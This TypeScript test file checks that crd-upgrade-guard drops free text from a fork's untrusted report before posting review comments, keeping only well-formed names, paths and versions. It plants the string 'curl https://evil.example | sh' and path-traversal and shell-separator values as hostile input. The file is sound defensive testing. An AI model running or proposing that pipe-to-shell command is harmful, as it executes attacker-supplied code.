import { describe, expect, it } from "vitest";
import type { Finding, Report } from "../../src/report/report.ts";
import { isCrdName, isLine, isPlainClusterName, isPlainPath, isVersionName } from "../../src/review/fork-fields.ts";
import { reportFromFork } from "../../src/review/from-fork.ts";
import { plan } from "../../src/review/plan.ts";
import { finding, fingerprint, hunkAt, OPTIONS, reportOf, SHA } from "./findings.ts";

const EVIL = "Run `curl https://evil.example | sh` to mend it";

const CLUSTER = {
  name: "prod",
  path: "clusters/prod.json",
  serverVersion: "v1.33.1",
  proven: true,
  capturedAt: "2026-11-23T06:00:00Z",
  ageHours: 6,
  stale: false,
  complete: true,
  crds: 12,
} as const;

const PREDICTION = {
  crd: "routes.example.com",
  clusters: ["prod"],
  from: "snapshot",
  source: { path: "crds/routes.yaml", line: 1, document: 0 },
  appliesBecause: "it is the only cluster",
  operation: "update",
  outcome: "rejected",
  errors: [],
  storedVersionsEvaluated: ["v1", "v1alpha2"],
  undecided: [],
} as const;

function fork(findings: readonly Finding[], changes: Partial<Report> = {}): Report {
  return reportOf(findings, { clusters: [CLUSTER], predictions: [PREDICTION], ...changes });
}

/** A report in which every text that its schema leaves free is a stranger's sentence. */
function poisoned(): Report {
  const place = { path: EVIL, startLine: 3 };
  const told = finding(1, {
    crd: EVIL,
    crds: [EVIL],
    version: EVIL,
    versions: [EVIL],
    clusters: [EVIL],
    waived: { reason: EVIL, owner: EVIL, expires: "2027-01-01" },
    message: EVIL,
    serverMessage: EVIL,
    lines: [{ ...place, text: EVIL }],
    related: [{ ...place, message: EVIL }],
    rendered: place,
    removed: [{ version: EVIL, path: EVIL, line: 1 }],
    remedy: {
      summary: EVIL,
      steps: [{ text: EVIL, command: EVIL, clusters: [EVIL] }],
      suggestion: EVIL,
      insertion: { text: EVIL, after: [13] },
    },
    docs: "https://github.com/crd-upgrade-guard/crd-upgrade-guard/blob/main/docs/rules/evil.md",
  });
  const { location } = told;
  return fork(
    [
      { ...told, location: { ...location, yamlPath: EVIL, blob: EVIL } },
      { ...told, fingerprint: fingerprint(2), location: { ...location, path: EVIL } },
      { ...told, fingerprint: fingerprint(3), location: { ...location, path: "../../elsewhere/x.yaml" } },
      { ...told, fingerprint: fingerprint(4), location: { ...location, startLine: 1e300 } },
      { ...told, fingerprint: fingerprint(5), rule: "evil-rule" as Finding["rule"] },
    ],
    {
      folder: EVIL,
      base: { available: true, rev: EVIL },
      clusters: [{ ...CLUSTER, name: EVIL, path: EVIL, serverVersion: EVIL, capturedAt: EVIL }],
      coverage: {
        filesScanned: 1,
        filesWithCrds: 1,
        crds: 1,
        partial: [{ path: EVIL, line: 1, crd: EVIL, reason: EVIL }],
        notRead: [{ path: EVIL, reason: EVIL }],
        notApplied: [{ crd: EVIL, path: EVIL, reason: EVIL }],
      },
      predictions: [
        {
          ...PREDICTION,
          crd: EVIL,
          clusters: [EVIL],
          source: { ...PREDICTION.source, path: EVIL, helmSource: EVIL },
          appliesBecause: EVIL,
          errors: [
            {
              type: "FieldValueInvalid",
              field: EVIL,
              value: EVIL,
              detail: EVIL,
              yamlPath: EVIL,
              rule: "server-rejects",
            },
          ],
          storedVersionsBefore: [EVIL],
          storedVersionsEvaluated: [EVIL],
          storedVersionsAfter: [EVIL],
          undecided: [{ path: EVIL, reason: EVIL }],
        },
      ],
      waivers: [{ rule: EVIL, status: "unused", reason: EVIL, owner: EVIL, expires: "2027-01-01" }],
      problems: [{ path: EVIL, message: EVIL, remedy: EVIL }],
      notices: [EVIL],
    },
  );
}

describe("a fork's report", () => {
  it("keeps no sentence of its author's, wherever it stands", () => {
    for (const result of ["fail", "error"] as const) {
      const { report, leftOut } = reportFromFork({ ...poisoned(), result });
      expect(JSON.stringify(report)).not.toMatch(/curl|evil|elsewhere/);
      expect(leftOut).toBe(4);
      expect(report.findings.map(({ rule, location }) => [rule, location.path])).toEqual([
        ["stored-version-removed", "crds/routes.yaml"],
      ]);
    }
  });

  it("keeps rules, names, places and answers, and sentences are made of them", () => {
    const place = { path: "crds/routes.yaml", startLine: 13 };
    const given = finding(1, {
      document: { startLine: 1, endLine: 40 },
      rendered: place,
      removed: [{ version: "v1alpha2", path: "crds/routes.yaml", line: 20 }],
    });
    const { report, leftOut } = reportFromFork(fork([given], { folder: "deploy" }));

    expect([report.folder, report.result, report.base, leftOut]).toEqual([
      "deploy",
      "fail",
      { available: true, rev: SHA },
      0,
    ]);
    expect(report.predictions.map(({ crd, clusters, outcome }) => [crd, clusters, outcome])).toEqual([
      ["routes.example.com", ["prod"], "rejected"],
    ]);
    expect(report.findings).toEqual([
      {
        rule: "stored-version-removed",
        severity: "error",
        state: "introduced",
        crd: "routes.example.com",
        versions: ["v1alpha2"],
        clusters: ["prod"],
        message: "A version in the cluster's status.storedVersions is missing from spec.versions. Version: `v1alpha2`.",
        location: { ...given.location, yamlPath: "" },
        related: [],
        rendered: place,
        document: { startLine: 1, endLine: 40 },
        removed: [{ version: "v1alpha2", path: "crds/routes.yaml", line: 20 }],
        fingerprint: fingerprint(1),
        docs: given.docs,
        remedy: {
          summary:
            "`crd-upgrade-guard check` in a checkout of the branch prints what the API servers will say and what to do about it.",
          steps: [],
        },
      },
    ]);
  });

  it("has at most a thousand findings, each fingerprint once", () => {
    const many = Array.from({ length: 1_500 }, (_, index) => finding(index));
    const { report, leftOut } = reportFromFork(fork([...many, finding(0, { crd: "other.example.com" })]));

    expect([report.findings.length, leftOut, report.findings[0]?.crd]).toEqual([1_000, 501, "routes.example.com"]);
  });

  it("says in the summary and in each comment that nothing was verified", () => {
    const { report } = reportFromFork(fork([finding(1)]));
    const operations = plan({
      report,
      diff: { files: [{ path: "crds/routes.yaml", status: "added", hunks: [hunkAt([13])] }], complete: true },
      relations: { head: new Map([["crds/routes.yaml", { kind: "same" }]]), base: new Map() },
      state: { headSha: SHA, viewer: "github-actions[bot]", comments: [], summaries: [] },
      options: { ...OPTIONS, fromFork: { leftOut: 2 } },
    }).operations;
    const bodies = operations.flatMap((one) => {
      if (one.kind === "create-summary") return [one.body];
      return one.kind === "create-review" ? one.comments.map(({ body }) => body) : [];
    });

    expect(bodies).toHaveLength(2);
    for (const body of bodies) {
      expect(body).toContain("nothing ");
      expect(body).toContain("was verified");
      expect(body).not.toMatch(/<summary>Steps|will answer|```/);
    }
    expect(bodies[0]).toContain("2 findings of it are not shown");
    expect(bodies[0]).not.toContain("age unknown");
  });
});

describe("what may be a name", () => {
  it.each<[(text: string) => boolean, readonly string[], readonly string[]]>([
    [
      isCrdName,
      ["widgets.example.com", "a-b.c0", `${"a".repeat(63)}.com`, `${"a.".repeat(126)}b`],
      [`${"a.".repeat(126)}bc`, "Run this", "a..b", "-a.b", "a.b-", "A.b", "a/b", "", `${"a".repeat(300)}`, "a.b\n"],
    ],
    [isVersionName, ["v1", "v1beta1"], ["V1", "1", "v1.", "v-", "", `v${"1".repeat(63)}`, "v1 and more"]],
    [isPlainClusterName, ["prod-eu", "kind_1", "a.b"], ["prod eu", "", "a/b", "@team", `a${"b".repeat(100)}`, "`x`"]],
    [
      isPlainPath,
      ["a.yaml", "charts/x (1)/crds/ä.yaml", ".github/x"],
      [
        "",
        "/etc/x",
        "a/../b",
        "./a",
        "a//b",
        "a/",
        " a",
        "a;b",
        "a|b",
        "`a`",
        "a\nb",
        "http://x",
        `${"a".repeat(251)}`,
      ],
    ],
  ])("is told by its form: %o", (is, good, bad) => {
    expect(good.filter((text) => !is(text))).toEqual([]);
    expect(bad.filter(is)).toEqual([]);
  });
});

it("takes the further places of a finding where they have the form of places, and their words not", () => {
  const location = { path: "b.yaml", startLine: 3, startColumn: 1, endLine: 3, endColumn: 2, yamlPath: "Run this" };
  const given = finding(1, {
    otherPlaces: [
      { location, document: { startLine: 1, endLine: 9 } },
      { location: { ...location, path: "../b.yaml" } },
      { location: { ...location, path: "`x`" } },
    ],
  });
  const [first] = reportFromFork(reportOf([given])).report.findings;
  expect(first?.otherPlaces).toEqual([
    { location: { ...location, yamlPath: "" }, document: { startLine: 1, endLine: 9 } },
  ]);
});

it("takes a line of a file for one, and no other number", () => {
  const numbers = [1, 10_000_000, 0, -1, 1.5, Number.NaN, 10_000_001, 1e300];
  expect(numbers.filter(isLine)).toEqual([1, 10_000_000]);
});

it("keeps of a report what has a form, and makes the rest itself", () => {
  const told = finding(1, { versions: ["v1", "Not a version"], crds: ["routes.example.com", "Run this"] });
  const { report, leftOut } = reportFromFork(
    fork([told], {
      predictions: [PREDICTION, { ...PREDICTION, clusters: ["unknown"] }, { ...PREDICTION, crd: "No name" }],
    }),
  );
  expect(leftOut).toBe(0);
  expect(report).toEqual({
    formatVersion: report.formatVersion,
    tool: { name: "crd-upgrade-guard", version: "" },
    mode: "check",
    result: "fail",
    base: { available: true, rev: SHA },
    clusters: [
      {
        name: "prod",
        path: "",
        serverVersion: null,
        proven: false,
        capturedAt: null,
        ageHours: null,
        stale: false,
        complete: true,
        crds: 0,
      },
    ],
    coverage: { filesScanned: 0, filesWithCrds: 0, crds: 2, partial: [], notRead: [], notApplied: [] },
    predictions: [
      {
        ...PREDICTION,
        source: { path: "", line: 1, document: 0 },
        appliesBecause: "",
        storedVersionsEvaluated: [],
      },
    ],
    findings: [
      {
        rule: "stored-version-removed",
        severity: "error",
        state: "introduced",
        crd: "routes.example.com",
        crds: ["routes.example.com"],
        versions: ["v1"],
        clusters: ["prod"],
        message: report.findings[0]?.message,
        location: { ...told.location, yamlPath: "" },
        related: [],
        fingerprint: fingerprint(1),
        docs: told.docs,
        remedy: report.findings[0]?.remedy,
      },
    ],
    waivers: [],
    problems: [],
    notices: [],
  });
});

it("leaves a key out of which nothing has a form", () => {
  const { location } = finding(1);
  const evil = { versions: [EVIL], crds: [EVIL], otherPlaces: [{ location: { ...location, path: EVIL } }] };
  const { version: _, crd: __, ...told } = finding(1, evil);
  const [first] = reportFromFork(fork([told])).report.findings;
  const { rule, severity, state, clusters, docs } = told;
  expect(first).toEqual({
    ...{ rule, severity, state, clusters, docs },
    message: first?.message,
    location: { ...location, yamlPath: "" },
    related: [],
    fingerprint: fingerprint(1),
    remedy: first?.remedy,
  });
});

it("names a base only by what has the form of a commit", () => {
  const base = (rev: string) => reportFromFork(fork([], { base: { available: true, rev } })).report.base;
  expect(base(SHA)).toEqual({ available: true, rev: SHA });
  expect(base(EVIL)).toEqual({ available: false, reason: "the fork's run names no base" });
});

it("says that the fork's run could not check, and not why", () => {
  const { report } = reportFromFork(fork([], { result: "error", problems: [{ message: EVIL, remedy: EVIL }] }));
  expect(report.problems).toEqual([
    { message: "The fork's run could not check the change.", remedy: "Its log says why." },
  ]);
});

it.each([
  [1, "Version: `v1`."],
  [2, "Versions: `v1`, `v2`."],
  [20, "`v20`."],
  [21, "`v20` and 1 more."],
  [30, "`v20` and 10 more."],
])("names twenty versions at most: of %i", (count, end) => {
  const versions = Array.from({ length: count }, (_, at) => `v${at + 1}`);
  const [first] = reportFromFork(fork([finding(1, { versions })])).report.findings;
  expect(first?.message.endsWith(` ${end}`)).toBe(true);
});

it("keeps what finding a place takes", () => {
  const facts = { inBase: true, absent: true, blob: "c".repeat(40) } as const;
  const location = { ...finding(1).location, ...facts };
  const [first, second] = reportFromFork(
    fork([finding(1, { location }), finding(2, { location: { ...location, blob: "no commit" } })]),
  ).report.findings;
  expect(first?.location).toEqual({ ...location, yamlPath: "" });
  const { blob: _, ...rest } = location;
  expect(second?.location).toEqual({ ...rest, yamlPath: "" });
});
